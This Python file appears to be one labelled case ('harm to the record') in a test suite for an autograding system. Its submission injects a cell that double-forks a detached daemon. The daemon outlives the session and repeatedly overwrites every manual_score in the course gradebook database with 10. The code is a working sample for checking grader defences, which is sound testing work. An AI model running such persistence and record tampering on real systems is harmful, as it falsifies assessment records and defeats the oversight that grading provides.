"""Leaves a daemon behind that waits until the marks are written and then writes its own."""

CLASS = "harm to the record"
DESERVES = 10


def submit(hand_in):
    hand_in.solve("linear_forward")
    hand_in.cell(
        f"""
        import os, sqlite3, time

        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                for fd in range(3):
                    os.close(fd)
                end = time.monotonic() + 15
                while time.monotonic() < end:
                    time.sleep(1)
                    try:
                        path = {str(hand_in.room.course / "gradebook.db")!r}
                        with sqlite3.connect(f"file:{{path}}?mode=rw", uri=True, timeout=1) as book:
                            book.execute("UPDATE grade SET manual_score = 10")
                    except sqlite3.Error:
                        pass
            os._exit(0)
        os.wait()
        """
    )
